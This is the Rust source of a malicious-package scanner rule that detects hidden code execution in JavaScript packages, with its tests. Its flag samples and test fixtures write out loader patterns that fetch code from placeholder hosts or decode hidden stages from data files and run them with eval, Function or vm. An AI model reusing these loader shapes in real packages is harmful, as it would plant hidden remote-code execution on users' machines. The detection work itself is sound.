//! Rule `hidden-code-run`.

use crate::flow::Source;
use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, code_files, is_doc_path};

crate::declare_rule! {
    /// A code runner executes code the package hides instead of shipping it as code, whatever
    /// the runner is spelled (`eval`, `Function` and its async/generator siblings however
    /// reached, `Reflect.construct(Function, …)`, `vm.*`, `Module.prototype._compile`, a `Worker`
    /// with `eval: true` or a data:/blob: URL, `import()` of a data: URL, `module.register`,
    /// the inspector's `Runtime.evaluate`, `node -e`, a global called by a name a call computes:
    /// `globalThis[dec(k)](s)`). The flow pass
    /// follows what reaches the code argument: a network response or the pixels of an image
    /// read from a canvas (`getImageData`, not in files over 200 KB: `critical`), a data file of
    /// the package (JSON/YAML fields, `package.json`, a source map, an image, a font, a text
    /// file: `critical`), a value derived from the host's identity (a host-keyed decryption:
    /// `critical`), or what a local decoding function makes of constant data (`high`; the
    /// verdict makes it malicious beside any other risky capability; `critical` when it runs as
    /// soon as the package is loaded or installed, the loader shape). In bundles (minified or
    /// over 200 KB) one step lower, and `medium` for the bundle's own `package.json`: names are
    /// tracked without scopes. A wrapper named after an identifier-checked name runs nothing
    /// hidden. A data file the package does not ship (no data file the code names is in the
    /// package) is the user's: `medium`. Required JSON counts only
    /// when it is the package's own `package.json`, or as the constant data a local decoding
    /// function is handed (`unpack(require('./data/x.json').field)`).
    id: "hidden-code-run",
    category: Exec,
    severity: High,
    capability: Some(crate::model::Capability::Eval),
    title: "runs code hidden in data, fetched or decoded",
    incident: "flatmap-stream (2018) decrypted its stage from package data; the 2025 Contagious Interview loaders XOR-decode and eval their stage",
    case_file: "index.js",
    flag: ["const fs = require('fs'); const cfg = JSON.parse(fs.readFileSync(__dirname + '/config.json', 'utf8')); new Function('require', cfg.init)(require)",
           "const u = 'https://h.example/s'; fetch(u).then((r) => r.text()).then((src) => { const f = Reflect.construct(Function, ['r', src]); f(require) })",
           "function d(s, k) { let o = ''; for (let i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ k.charCodeAt(i % k.length)); return o } const k = require('os').hostname(); eval(d('\\x01\\x02\\x03\\x04\\x05\\x06\\x07\\x08\\x09\\x0a\\x0b\\x0c\\x0d\\x0e\\x0f\\x10', k))",
           "const { Worker } = require('worker_threads'); const p = require('./package.json'); new Worker(p.config.bootstrap, { eval: true })",
           "const T = 'QWERTYUIOPASDFGHJKLZXCVBNMqwertyuiopasdfghjklzxcvbnm0123456789+/'; const S = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'; function unpack(s) { let o = ''; for (const c of s) o += S[T.indexOf(c)]; return Buffer.from(o, 'base64').toString() } const x = require('../data/rules.json').compact; require('vm').runInThisContext('(function (require) {' + unpack(x) + '})')(require)",
           "const { map, kern } = require('../assets/glyphs.json'); function expand(s) { return s.split('').map((c) => String.fromCharCode(c.charCodeAt(0) ^ 23)).join('') } new Function('require', expand(kern))(require)",
           "const { stage } = require('./assets/sprites.json'); require('vm').runInNewContext(Buffer.from(stage, 'base64').toString(), { require })"],
    pass: ["const { logo } = require('./assets/brand.json'); const png = Buffer.from(logo, 'base64'); const add = new Function('a', 'b', 'return a + b'); module.exports = { png, add }",
           "const ejs = (tpl) => new Function('o', 'return `' + tpl + '`'); module.exports = (file) => ejs(require('fs').readFileSync(file, 'utf8'))",
           "function unpack(s) { return Buffer.from(s, 'base64').toString() } const rows = unpack(require('./data/table.json').rows).split('\\n'); const add = new Function('a', 'return a + 1')",
           "eval('console.log(1)'); fetch('https://h.example/x').then((r) => r.json()).then(render)",
           "const pkg = require('./package.json'); console.log(pkg.version); new Function('a', 'b', 'return a + b')",
           "module.exports = function compile(filename) { const src = require('fs').readFileSync(filename, 'utf8'); const m = new module.constructor(); m._compile(src, filename) }",
           // @emnapi/core 1.11.3: a wrapper named after a checked identifier, in a file that fetches
           "fetch(u).then((r) => r.text()).then((name) => { if (!/^[_$a-zA-Z][_$a-zA-Z0-9]*$/.test(name)) return; const f = new Function('_', 'return function ' + name + '(){ return _.apply(this, arguments) }')(impl) })"],
}

/// Whether a data file the code names (`'icons.json'`, `__dirname + '/logo.png'`, an extension
/// alone: `name + '.svg'`) is one the package ships, other than its `package.json`.
fn ships_named_data(pkg: &Package, f: &crate::package::FileCtx, js: &crate::js::JsFacts) -> bool {
    let named = crate::regex!(
        r#"(?i)['"`]([^'"`\s]*\.(json|ya?ml|toml|map|png|jpe?g|gif|ico|bmp|webp|svg|ttf|otf|woff2?|eot|txt|md|dat|bin|db|csv|log|lock))['"`]"#
    );
    let texts = std::iter::once(f.text.as_str()).chain(js.derived.iter().map(|(d, _)| d.as_str()));
    let base = |p: &str| {
        p.rsplit(['/', '\\'])
            .next()
            .unwrap_or(p)
            .to_ascii_lowercase()
    };
    let shipped: Vec<String> = pkg.files.iter().map(|x| base(&x.path)).collect();
    texts.into_iter().any(|t| {
        named.captures_iter(t).any(|c| {
            let name = base(c.get(1).map_or("", |m| m.as_str()));
            if name == "package.json" {
                return false;
            }
            // `${n}.svg`, `.svg`: only the extension is known.
            if name.starts_with('.') || name.contains("${") {
                let ext = name.rsplit('.').next().unwrap_or("");
                shipped
                    .iter()
                    .any(|s| s != "package.json" && s.ends_with(&format!(".{ext}")))
            } else {
                shipped.contains(&name)
            }
        })
    })
}

fn check(pkg: &Package, out: &mut Emitter) {
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        let Some(js) = &f.js else { continue };
        // Not a wrapper named after a checked identifier: the name is all that varies.
        let Some(run) = js
            .code_runs
            .iter()
            .filter(|r| !super::function_name::runs_a_checked_name(&f.text, r.off))
            .max_by_key(|r| r.source)
        else {
            continue;
        };
        let bundle = f.minified || f.text.len() > 200 * 1024;
        let (sev, how) = match run.source {
            Source::Remote => (Severity::Critical, "received over the network"),
            Source::PackageData => (Severity::Critical, "hidden in a data file of the package"),
            Source::Host => (
                Severity::Critical,
                "decoded with a key from the host's identity",
            ),
            _ => (
                Severity::High,
                "decoded from constant data by the package itself",
            ),
        };
        // Decoded by the package's own function and run when the package is loaded (or
        // installed): the loader shape, with no reason a library would hide its own code.
        // Not in bundles: their top level holds every module's code.
        let (sev, how) = if run.source == Source::Decoded
            && !bundle
            && (pkg.is_install_file(f) || pkg.runs_on_load(f, run.off))
        {
            (
                Severity::Critical,
                "decoded from constant data by the package itself, as soon as it is loaded",
            )
        } else {
            (sev, how)
        };
        // A runner spelled indirectly (`Reflect.construct(Function, …)`, a global by a computed
        // name) is never a minifier's output: in a minified file of one module (not a large
        // bundle) the decoded stage run on load stays the loader shape.
        let indirect = run.sink.starts_with("Reflect.") || run.sink.starts_with("globalThis[");
        let small_minified = f.minified && f.text.len() <= 100 * 1024;
        let (sev, bundle) = if run.source == Source::Decoded
            && small_minified
            && indirect
            && pkg.runs_on_load(f, run.off)
        {
            (Severity::Critical, false)
        } else {
            (sev, bundle)
        };
        let how = if sev == Severity::Critical && run.source == Source::Decoded {
            "decoded from constant data by the package itself, as soon as it is loaded"
        } else {
            how
        };
        // A bundle reads its own `package.json` for a version in one module and runs the code
        // it compiled in another (@rspack/core 2.3.3's module executor): with names tracked
        // without scopes, the link between them is a reused name.
        let own_manifest = run.source == Source::PackageData && run.what.contains("package.json");
        // A data file the package cannot hold: no data file the code names is in the package, so
        // what it reads is the user's (a test runner's fixture `options.json`,
        // @babel/helper-transform-fixture-test-runner 8.0.0).
        let users_file =
            run.source == Source::PackageData && !own_manifest && !ships_named_data(pkg, f, js);
        let how = if users_file {
            "from a data file the package does not ship"
        } else {
            how
        };
        let sev = if bundle && own_manifest || users_file {
            Severity::Medium
        } else if bundle && sev == Severity::Critical {
            Severity::High
        } else if bundle {
            Severity::Medium
        } else {
            sev
        };
        out.hit_sev(
            sev,
            pkg,
            f,
            run.off,
            format!("runs code {how} ({}) with {}", run.what, run.sink),
        );
    }
}

#[cfg(test)]
mod tests {
    use crate::model::Severity;
    use crate::rules::testing::run;

    /// The severity of the first finding on `src` as `index.js`, with every finding on failure.
    fn first_severity(src: &str) -> (Option<Severity>, String) {
        crate::rules::testing::first_severity(&super::RULE, "index.js", src)
    }

    #[test]
    fn xor_decoder_over_a_constant_array_into_vm_on_call_is_high() {
        let src = "const vm = require('vm'); const K = [3,9,27,81,243,17,51,153,205]; const D = [107,108,109,110,111,112,113,114,115,116];\nfunction un(a, k) { return a.map((c, i) => String.fromCharCode(c ^ k[i % k.length])).join(''); }\nmodule.exports = () => vm.runInThisContext(un(D, K));";
        let (severity, hits) = first_severity(src);
        assert_eq!(severity, Some(Severity::High), "{hits}");
    }

    #[test]
    fn xor_decoded_array_run_at_load_time_is_critical() {
        let src = "const T = [107,108,109,110,111,112,113,114,115,116];\nfunction unpack(t, k) { let s = ''; for (let i = 0; i < t.length; i++) s += String.fromCharCode(t[i] ^ k[i % k.length]); return s }\nconst run = Function;\nrun(unpack(T, [19, 55, 90]))();";
        let (severity, hits) = first_severity(src);
        assert_eq!(severity, Some(Severity::Critical), "{hits}");
    }

    #[test]
    fn char_codes_run_on_load_through_reflect_construct_in_a_minified_module_is_critical() {
        let codes: Vec<String> = "require('os').hostname()"
            .bytes()
            .map(|b| b.to_string())
            .collect();
        let src = format!(
            "\"use strict\";var a=1;{};(()=>{{try{{let t=[{}],e=Reflect.construct(Function,[\"r\",String.fromCharCode.apply(null,t)]);Reflect.apply(e,null,[require])}}catch{{}}}})();\n",
            "function q(t){return t+1}".repeat(100),
            codes.join(",")
        );
        let (severity, hits) = first_severity(&src);
        assert_eq!(severity, Some(Severity::Critical), "{hits}");
    }

    #[test]
    fn the_same_minified_module_building_its_stage_with_new_function_on_call_stays_medium() {
        let codes: Vec<String> = "require('os').hostname()"
            .bytes()
            .map(|b| b.to_string())
            .collect();
        let src = format!(
            "\"use strict\";var a=1;{};module.exports=function(){{let t=[{}];return new Function(\"r\",String.fromCharCode.apply(null,t))}};\n",
            "function q(t){return t+1}".repeat(100),
            codes.join(",")
        );
        let (severity, hits) = first_severity(&src);
        assert_eq!(severity, Some(Severity::Medium), "{hits}");
    }

    #[test]
    fn a_manifest_field_decoded_through_spread_char_codes_into_reflect_construct_is_critical() {
        let src = "const meta = require('./package.json');\nfunction compile(p) { const hex = Buffer.from(p, 'base64').toString('latin1'); const list = Buffer.from(hex, 'hex').toString('latin1'); const code = String.fromCharCode(...list.split(',').map(Number)); return Reflect.construct(Function, ['require', code]); }\nmodule.exports = () => compile(meta.sortOrder.preset)(require);";
        let (severity, hits) = first_severity(src);
        assert_eq!(severity, Some(Severity::Critical), "{hits}");
    }

    #[test]
    fn char_codes_spread_from_a_user_argument_are_not_hidden_code() {
        let src = "module.exports = (codes) => new Function('a', String.fromCharCode(...codes.split(',').map(Number)));";
        assert!(run(&super::RULE, "index.js", src).is_empty());
    }

    #[test]
    fn a_decoder_applied_to_user_input_is_not_hidden_code() {
        let src = "const vm = require('vm');\nfunction un(s) { return s.replace(/\\\\u([0-9a-f]{4})/g, (m, h) => String.fromCharCode(parseInt(h, 16))); }\nmodule.exports = (input) => vm.runInNewContext(un(input), {});";
        assert!(run(&super::RULE, "index.js", src).is_empty());
    }

    #[test]
    fn response_chunks_into_module_compile_is_critical() {
        let src = "const https = require('https'); const Module = require('module');\nhttps.get('https://paste.example/raw/x', (res) => { let s = ''; res.on('data', (c) => { s += c; }); res.on('end', () => { const m = new Module('x'); m._compile(s, 'x.js'); }); });";
        let (severity, hits) = first_severity(src);
        assert_eq!(severity, Some(Severity::Critical), "{hits}");
    }

    #[test]
    fn inspector_runtime_evaluate_of_a_json_field_is_critical() {
        let src = "const inspector = require('inspector'); const cfg = require('./package.json');\nconst s = new inspector.Session(); s.connect(); s.post('Runtime.evaluate', { expression: cfg.probe });";
        let (severity, hits) = first_severity(src);
        assert_eq!(severity, Some(Severity::Critical), "{hits}");
    }

    /// @rspack/core 2.3.3: a bundle over 200 KB reads `package.json` somewhere and runs
    /// compiled modules elsewhere: medium. A small file doing the same stays critical.
    #[test]
    fn package_json_into_a_runner_in_a_bundle_is_medium() {
        let src = "const vm = require('vm'); const options = require('./package.json');\nmodule.exports = (m) => vm.runInThisContext(options.boot);\n";
        let (severity, hits) = first_severity(src);
        assert_eq!(severity, Some(Severity::Critical), "{hits}");
        let filler = "function f(a) { return a + 1; }\n".repeat(7000);
        let (severity, hits) = first_severity(&format!("{filler}{src}"));
        assert_eq!(severity, Some(Severity::Medium), "{hits}");
    }

    /// @babel/helper-transform-fixture-test-runner 8.0.0: a test runner parses each fixture's
    /// `options.json` and runs the fixture's compiled code; the package ships no such file.
    /// The same read of a data file the package ships stays critical.
    #[test]
    fn code_from_a_data_file_the_package_does_not_ship_is_medium() {
        let runner = "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"main\":\"index.js\"}\n=== index.js\nconst fs = require('fs'); const path = require('path'); const vm = require('vm');\nmodule.exports = function run(dir) { const opts = JSON.parse(fs.readFileSync(path.join(dir, 'options.json'), 'utf8')); return vm.runInNewContext(opts.code, {}); };\n";
        let (severity, hits) = first_severity(runner);
        assert_eq!(severity, Some(Severity::Medium), "{hits}");
        let shipped = format!("{runner}=== options.json\n{{\"code\":\"1\"}}\n");
        let (severity, hits) = first_severity(&shipped);
        assert_eq!(severity, Some(Severity::Critical), "{hits}");
    }

    #[test]
    fn a_template_read_from_a_user_path_is_not_hidden_code() {
        let src = "const fs = require('fs');\nmodule.exports = (file, data) => new Function('d', 'with (d) { return `' + fs.readFileSync(file, 'utf8') + '` }')(data);";
        assert!(run(&super::RULE, "index.js", src).is_empty());
    }
}

#[cfg(test)]
mod compiled_tests {
    use crate::model::Severity;
    use crate::rules::testing::run;

    /// tsc's downlevel `async`: a network client bound under another name
    /// (`node_fetch_1 = require("node-fetch")`, called as `(0, node_fetch_1.default)(u)`) and
    /// `yield` for `await`. The response's field run by eval is remote code; the same code
    /// that evals a constant of its own runs nothing received.
    #[test]
    fn a_response_run_through_compiled_await_is_remote_code() {
        let src = "\"use strict\";\nconst got_1 = require(\"got\");\nfunction load(u) {\n    return __awaiter(this, void 0, void 0, function* () {\n        const r = yield (0, got_1.default)(u);\n        const body = JSON.parse(r.body);\n        if (body.cfg) { new Function(\"require\", body.cfg)(require); }\n    });\n}\nexports.load = load;\n";
        let hits = run(&super::RULE, "dist/load.js", src);
        assert_eq!(
            hits.first().map(|h| h.severity),
            Some(Severity::Critical),
            "{hits:?}"
        );
        let own = src.replace("body.cfg)(require)", "\"return 1\")(require)");
        assert!(run(&super::RULE, "dist/load.js", &own).is_empty());
    }
}

#[cfg(test)]
mod shuffled_data_tests {
    use crate::model::Severity;
    use crate::rules::testing::run;

    /// A field of a shipped JSON file, reversed (or sliced) and base64-decoded, run by `vm` as
    /// the package loads: the decoder only sees the data file's text in another order. The same
    /// field decoded and only printed runs nothing.
    #[test]
    fn a_shuffled_data_file_field_decoded_and_run_is_hidden_code() {
        let src = "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"main\":\"index.js\"}\n=== data/table.json\n{\"rows\": [1, 2], \"ext\": \"==gO0AXYjJ3bmNWZkxWZ\"}\n=== index.js\nvar table = require('./data/table.json');\n;(function () {\n  var t = table['ext'];\n  var s = Buffer.from(t.slice(0).split('').reverse().join(''), 'base64').toString();\n  require('vm').runInThisContext(s)(require);\n})();\nmodule.exports = table.rows;\n";
        let hits = run(&super::RULE, "index.js", src);
        assert_eq!(
            hits.first().map(|h| h.severity),
            Some(Severity::Critical),
            "{hits:?}"
        );
        let shown = src.replace(
            "require('vm').runInThisContext(s)(require)",
            "console.log(s)",
        );
        assert!(run(&super::RULE, "index.js", &shown).is_empty());
    }
}
